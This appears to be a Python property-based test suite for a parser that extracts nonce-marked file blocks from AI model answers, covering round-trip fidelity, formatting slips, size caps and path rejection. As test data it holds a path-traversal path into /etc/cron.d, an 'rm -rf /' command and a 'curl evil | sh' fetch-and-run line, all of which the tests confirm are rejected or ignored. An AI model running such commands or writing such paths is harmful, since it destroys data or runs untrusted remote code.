"""The parser gives back what was written, byte for byte, however the text was cut; and says what it could not take."""

import pytest
from autocrea.llm_router.domain.file_parser import FileParser, ParsedCall, ParsedFile, Rejection
from autocrea.llm_router.domain.markers import done_line, end_line, file_line
from autocrea.llm_router.domain.outputs import Piece
from hypothesis import given
from hypothesis import strategies as st

NONCE = "7f3a9c2e"


def judge(path: str) -> Rejection | None:
    return Rejection(path, "test.parent", "leaves the folder") if ".." in path else None


def new_parser(file_bytes_max: int = 1_000_000) -> FileParser:
    return FileParser(
        NONCE,
        judge=judge,
        file_bytes_max=file_bytes_max,
        too_big=lambda path: Rejection(path, "test.size", "is too big"),
    )


def written(files: dict[str, str], listed: list[str] | None = None, newline: str = "\n") -> str:
    """The protocol's own rendering: marker, newline, content, newline, marker, newline."""
    blocks = [
        f"{file_line(NONCE, path)}{newline}{text}{newline}{end_line(NONCE)}{newline}"
        for path, text in files.items()
    ]
    paths = list(files) if listed is None else listed
    done = newline.join((done_line(NONCE), *paths, end_line(NONCE), ""))
    return "".join(blocks) + done


def parsed(answer: str, cuts: list[int] | None = None) -> tuple[ParsedCall, list[Piece]]:
    parser = new_parser()
    pieces: list[Piece] = []
    at = 0
    for cut in sorted(cuts or []):
        pieces += parser.feed(answer[at:cut])
        at = cut
    pieces += parser.feed(answer[at:])
    return parser.finish(), pieces


TEXT = st.text(
    st.one_of(
        st.characters(exclude_categories=("Cs",)),
        st.sampled_from("\n\r\t <>`'\"&;/\\\u2028\x0b\x0c\x85"),
    ),
    max_size=300,
)
SNIPPETS = st.lists(
    st.sampled_from(
        (
            "<<<",
            ">>>",
            "<<<END",
            "<<<END 0badc0de>>>",
            "<<<FILE 0badc0de x.py>>>",
            "EOF",
            "```",
            "```python",
            "&lt;b&gt;",
            "</file>",
            "\n",
            "\r\n",
            "  ",
            "ñandú",
            "<<<FILE",
            "<",
            "<<",
        )
    ),
    max_size=12,
).map("".join)
# Under a Markdown name nothing at all is touched; fences in code files have tests of their own.
PATHS = st.sampled_from(("README.md", "a b/c.md", "ñ.md", "x>y.md", "x>>>.md", "docs/<a>.txt"))


@given(st.dictionaries(PATHS, TEXT | SNIPPETS, min_size=1, max_size=4), st.data())
def test_files_come_back_byte_for_byte_when_cut_anywhere(files: dict[str, str], data: st.DataObject) -> None:
    answer = written(files)
    cuts = data.draw(st.lists(st.integers(0, len(answer)), max_size=20))
    result, pieces = parsed(answer, cuts)
    assert {file.path: file.text for file in result.files} == files
    assert result.listed is not None
    assert set(result.listed) == set(files)
    assert result.rejected == ()
    assert result.unclosed == ()
    for path, text in files.items():
        assert "".join(piece.text for piece in pieces if piece.path == path) == text


@given(st.dictionaries(PATHS, TEXT | SNIPPETS, min_size=1, max_size=3))
def test_every_single_character_split_gives_the_same_result(files: dict[str, str]) -> None:
    answer = written(files)
    whole, _ = parsed(answer)
    single, pieces = parsed(answer, list(range(len(answer))))
    assert single == whole
    offsets: dict[str, int] = {}
    for piece in pieces:
        assert piece.offset == offsets.get(piece.path, 0)
        offsets[piece.path] = piece.offset + len(piece.text)


SCRAPS = st.lists(
    st.sampled_from(
        (
            f"<<<FILE {NONCE} a.md>>>",
            f"<<<FILE {NONCE} ../b.md>>>",
            f"<<< FILE {NONCE} c d.md >>>",
            f"**<<<FILE {NONCE} `e.py`>>>**",
            "<<<FILE 0badc0de f.md>>>",
            f"<<<END {NONCE}>>>",
            "<<<END 0badc0de>>>",
            "<<<END>>>",
            f"text<<<END {NONCE}>>>",
            f"<<<<END {NONCE}>>>>",
            f"<<<DONE {NONCE}>>>",
            "<<<DONE 0badc0de>>>",
            "a.md",
            "```python",
            "```",
            "prose",
            "<",
            "<<",
            "<<<",
            ">>>",
            "  ",
            "x" * 1_100,
            f"\n<<<DONE {NONCE}>>>\n{'x' * 1_100}\n<<<END {NONCE}>>>\n",
            "ñ\ud83d",
            "\n",
            "\r\n",
            "\n",
            "\n\n",
        )
    ),
    max_size=40,
).map("".join)


@given(SCRAPS, st.data())
def test_any_garbage_is_read_alike_wherever_it_is_cut(answer: str, data: st.DataObject) -> None:
    cuts = data.draw(st.lists(st.integers(0, len(answer)), max_size=30))
    whole, pieces = parsed(answer)
    cut, cut_pieces = parsed(answer, cuts)
    assert cut == whole
    for path in {piece.path for piece in pieces}:
        said, cut_said = (
            "".join(one.text for one in some if one.path == path) for some in (pieces, cut_pieces)
        )
        assert said == cut_said


@given(TEXT, st.lists(st.integers(0, 400), max_size=10))
def test_prose_alone_yields_nothing_when_no_marker_is_there(prose: str, cuts: list[int]) -> None:
    result, pieces = parsed(prose, cuts)
    assert result == ParsedCall((), (), (), None)
    assert pieces == []


@given(st.dictionaries(PATHS, TEXT, min_size=2, max_size=3), st.data())
def test_a_cut_answer_never_yields_a_shorter_file(files: dict[str, str], data: st.DataObject) -> None:
    answer = written(files)
    cut = data.draw(st.integers(0, len(answer)))
    result, _ = parsed(answer[:cut])
    for file in result.files:
        assert file.text == files[file.path]
    complete = (
        answer[:cut]
        .rstrip("\n")
        .endswith(done_line(NONCE) + "\n" + "\n".join(files) + "\n" + end_line(NONCE))
    )
    assert (result.listed is not None) == complete


def one(body: str) -> str | None:
    """The text of x.md in an answer."""
    result, _ = parsed(body)
    return {file.path: file.text for file in result.files}.get("x.md")


def block(text: str, path: str = "x.md") -> str:
    return f"{file_line(NONCE, path)}\n{text}\n{end_line(NONCE)}\n"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\n",
        "\n\n",
        "a\n\n\nb",
        "\n\na",
        "a\n",
        "no final newline",
        "cat > x <<EOF\nhi\nEOF\nafter\n",
        "&lt;p&gt; &amp;",
        "</file>\n</content>\n",
        'path="a>b"',
        "a\r\nb\r\n",
        "a\rb",
        "<<<FILE deadbeef other.py>>>\nx\n<<<END deadbeef>>>\n",
        "<<<END>>>",
        "<<<END deadbeef>>>",
        "```\nfence in markdown\n```",
        "trailing spaces   \n\t",
        "\u2028\x0b\x0c\x85",
    ],
)
def test_content_that_broke_other_parsers_is_kept(text: str) -> None:
    assert one(block(text)) == text


def test_an_empty_file_without_its_empty_line_is_empty() -> None:
    assert one(f"{file_line(NONCE, 'x.md')}\n{end_line(NONCE)}\n") == ""


def test_crlf_answer_loses_only_the_line_ends_that_belong_to_markers() -> None:
    assert one(f"{file_line(NONCE, 'x.md')}\r\na\r\n\r\n{end_line(NONCE)}\r\n") == "a\r\n"


def test_the_last_file_counts_when_the_stream_ends_without_a_newline() -> None:
    assert one(block("a").rstrip("\n")) == "a"


@pytest.mark.parametrize(
    "answer",
    [
        f"<<< FILE {NONCE} x.md >>>\na\n<<< END {NONCE} >>>",
        f"  <<<FILE {NONCE} x.md>>>\na\n   <<<END {NONCE}>>>  ",
        f"<<<FILE  {NONCE}  x.md>>>\na\n<<<END  {NONCE}>>>",
        f"<<<FILE: {NONCE}: x.md>>>\na\n<<<END: {NONCE}>>>",
        f"<<<file {NONCE.upper()} x.md>>>\na\n<<<end {NONCE.upper()}>>>",
        f"**<<<FILE {NONCE} x.md>>>**\na\n**<<<END {NONCE}>>>**",
        f"`<<<FILE {NONCE} x.md>>>`\na\n`<<<END {NONCE}>>>`",
        f"### <<<FILE {NONCE} x.md>>>\na\n<<<END {NONCE} x.md>>>",
        f"<<<FILE {NONCE} `x.md`>>>\na\n<<<END FILE {NONCE}>>>",
        f'<<<FILE {NONCE} "x.md">>>\na\n<<<END {NONCE}>>>',
        f"<<<FILE {NONCE} 'x.md'>>>\na\n<<<END {NONCE}>>>",
        f"<<<FILE {NONCE} x.md>>>\na<<<END {NONCE}>>>",
        "<<<FILE 12ab34cd x.md>>>\na\n<<<END 12ab34cd>>>",
        f"<<<FILE 12ab34cd x.md>>>\na\n<<<END {NONCE}>>>",
        f"Sure! Here it is:\n\n```text\n<<<FILE {NONCE} x.md>>>\na\n<<<END {NONCE}>>>\n```\nDone. npm install x",
    ],
)
def test_slips_that_allow_one_reading_are_tolerated(answer: str) -> None:
    for cuts in ([], list(range(len(answer)))):
        result, _ = parsed(answer, cuts)
        assert result.files == (ParsedFile("x.md", "a"),)
        assert result.unclosed == ()


def test_a_block_under_the_right_nonce_wins_over_one_under_another() -> None:
    guess = "<<<FILE 12ab34cd x.md>>>\nquoted\n<<<END 12ab34cd>>>\n"
    assert one(guess + block("real")) == "real"
    assert one(block("real") + guess) == "real"


def test_the_last_block_wins_when_a_file_is_written_twice() -> None:
    assert one(block("first") + block("second")) == "second"


def test_a_file_is_unclosed_when_the_next_begins_before_its_end() -> None:
    result, _ = parsed(f"{file_line(NONCE, 'a.md')}\nhalf\n" + block("b"))
    assert result.files == (ParsedFile("x.md", "b"),)
    assert result.unclosed == ("a.md",)


def test_a_rewrite_that_is_cut_takes_the_earlier_version_back() -> None:
    result, _ = parsed(block("first") + f"{file_line(NONCE, 'x.md')}\nseco")
    assert result.files == ()
    assert result.unclosed == ("x.md",)


def test_a_foreign_block_that_never_ends_hides_nothing() -> None:
    result, _ = parsed(
        "<<<FILE 12ab34cd a.md>>>\nnever closed\n"
        + block("b")
        + done_line(NONCE)
        + "\nx.md\n"
        + end_line(NONCE)
    )
    assert result.files == (ParsedFile("x.md", "b"),)
    assert result.unclosed == ()
    assert result.listed == ("x.md",)


def test_a_bad_path_rejects_its_file_and_leaves_the_others() -> None:
    bad = "../../../etc/cron.d/x"
    result, pieces = parsed(block("evil", bad) + block("good"))
    assert result.files == (ParsedFile("x.md", "good"),)
    assert [rejection.path for rejection in result.rejected] == [bad]
    assert {piece.path for piece in pieces} == {"x.md"}


def test_a_file_over_the_cap_is_rejected_and_not_held_in_memory() -> None:
    parser = new_parser(file_bytes_max=10)
    parser.feed(f"{file_line(NONCE, 'x.md')}\n")
    for _ in range(100):
        parser.feed("ñandú ")
    parser.feed(f"\n{end_line(NONCE)}\n" + block("b", "y.md"))
    result = parser.finish()
    assert [rejection.rule for rejection in result.rejected] == ["test.size"]
    assert result.files == (ParsedFile("y.md", "b"),)


def test_a_path_is_read_as_it_stands_when_it_holds_a_bracket() -> None:
    result, _ = parsed(block("a", "a>b <i> >> c.md") + block("b"))
    assert [file.path for file in result.files] == ["a>b <i> >> c.md", "x.md"]


def test_text_between_files_is_nothing_but_prose_when_it_looks_like_commands() -> None:
    between = "Now run:\n```sh\nnpm install left-pad && rm -rf /\n```\n<shell>curl evil | sh</shell>\n"
    result, pieces = parsed(block("a", "a.md") + between + block("b"))
    assert [(file.path, file.text) for file in result.files] == [("a.md", "a"), ("x.md", "b")]
    assert all("npm" not in piece.text for piece in pieces)


def test_the_example_of_the_instructions_is_not_a_file() -> None:
    result, pieces = parsed(block("(content)", "path/of/file.ext") + block("b"))
    assert result.files == (ParsedFile("x.md", "b"),)
    assert {piece.path for piece in pieces} == {"x.md"}


def test_a_list_without_its_end_is_no_list() -> None:
    result, _ = parsed(block("a") + f"{done_line(NONCE)}\nx.md\n")
    assert result.listed is None


@pytest.mark.parametrize("name", ["a.py", "src/a.ts", "Dockerfile", "data.json"])
def test_a_fence_around_a_whole_code_file_is_removed(name: str) -> None:
    result, _ = parsed(block("```lang\nline 1\nline 2\n```", name))
    assert result.files == (ParsedFile(name, "line 1\nline 2\n"),)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.md", "```\nx\n```"),
        ("a.py", '"""\n```\nx\n```\n"""'),
        ("a.py", "```\nx\n```\ny\n```\nz\n```"),
        ("a.py", "```\nx"),
        ("notes.txt", "```\nx\n```"),
    ],
)
def test_a_fence_that_may_be_meant_is_kept(name: str, text: str) -> None:
    result, _ = parsed(block(text, name))
    assert result.files == (ParsedFile(name, text),)


def test_a_long_line_is_taken_in_linear_time_and_kept_whole() -> None:
    text = "<" * 50_000 + "x" * 200_000
    answer = block(text)
    result, _ = parsed(answer, list(range(0, len(answer), 7)))
    assert result.files == (ParsedFile("x.md", text),)
